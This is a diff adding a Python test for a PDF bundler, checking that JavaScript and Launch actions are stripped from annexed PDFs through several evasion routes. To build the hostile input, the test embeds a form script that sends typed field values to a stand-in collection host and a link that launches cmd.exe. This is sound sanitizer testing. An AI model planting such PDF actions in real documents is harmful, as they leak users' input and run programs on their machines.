@@ -452,6 +452,82 @@ def test_scripts_and_actions_of_an_annex_are_left_out_and_its_links_kept(
     assert titles == kept
 
 
+def test_what_qpdf_reaches_by_other_ways_is_stripped_too(voorstel: Path, tmp_path: Path) -> None:
+    """A field's scripts reached only through its widget's /Parent, a list of annotations two
+    pages share, a script kept in a stream, an additional action under a name that is not
+    UTF-8; and Acrobat's own format script, which stays."""
+    source = tmp_path / "bron.pdf"
+    with pikepdf.open(CORPUS / "004-pdflatex-4-pages--pdflatex-4-pages.pdf") as pdf:
+        script = "app.launchURL('https://verzamelen.example/' + event.value);"
+        field = pdf.make_indirect(
+            Dictionary(
+                FT=Name.Tx,
+                T=String("naam"),
+                AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String(script))),
+            )
+        )
+        formatted = pdf.make_indirect(
+            Dictionary(
+                FT=Name.Tx,
+                T=String("bedrag"),
+                AA=Dictionary(
+                    F=Dictionary(
+                        S=Name.JavaScript, JS=String('AFNumber_Format(2, 0, 0, 0, "€ ", true);')
+                    )
+                ),
+            )
+        )
+        widgets = []
+        for top, parent in ((72, field), (110, formatted)):
+            widget = Dictionary(
+                Type=Name.Annot,
+                Subtype=Name.Widget,
+                Rect=Array([72, top, 200, top + 20]),
+                Parent=parent,
+            )
+            widgets.append(pdf.make_indirect(widget))
+            parent.Kids = Array([widgets[-1]])
+        launch = Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.Link,
+            Rect=Array([300, 72, 400, 92]),
+            A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
+        )
+        shared = pdf.make_indirect(Array([*widgets, pdf.make_indirect(launch)]))
+        pdf.pages[0].obj.Annots = shared
+        pdf.pages[1].obj.Annots = shared
+        # A form that lists none of its fields: qpdf finds them through the widgets.
+        pdf.Root.AcroForm = Dictionary(Fields=Array())
+        code = pdf.make_stream(b"app.alert('stroom');", S=Name.JavaScript)
+        pdf.pages[2].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=code), C=code)
+        pdf.save(
+            source, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False
+        )
+    # A key written as /#FF is a name, but not text.
+    annex = tmp_path / "bijlage.pdf"
+    data = source.read_bytes()
+    assert data.count(b"/C ") >= 1
+    annex.write_bytes(data.replace(b"/AA <<\n  /C ", b"/AA <<\n  /#FF ", 1))
+
+    out = tmp_path / "bundel.pdf"
+    bundle_pdf(voorstel, [BundleAnnex(annex, 1, "Formulier")], META, out)
+    start = page_count(voorstel)
+    with pikepdf.open(out) as pdf:
+        for obj in pdf.objects:
+            if isinstance(obj, Dictionary | pikepdf.Stream):
+                assert obj.get(Name.S) not in (Name.Launch, Name.JavaScript) or (
+                    "AFNumber_Format" in str(obj.get(Name.JS))
+                ), repr(obj)
+        for index in (start, start + 1):
+            kinds = [a.Subtype for a in pdf.pages[index].obj.Annots]
+            assert kinds == [Name.Widget, Name.Widget]
+        # The two pages' widgets are copied once each ("naam", "naam+1"): all stripped alike.
+        fields = {str(f.T): f for f in pdf.Root.AcroForm.Fields}
+        assert sorted(fields) == ["bedrag", "bedrag+1", "naam", "naam+1"]
+        assert all(Name.AA not in fields[name] for name in ("naam", "naam+1"))
+        assert all("AFNumber_Format" in str(fields[n].AA.F.JS) for n in ("bedrag", "bedrag+1"))
+
+
 # --- the general merger --------------------------------------------------------------------
 
 
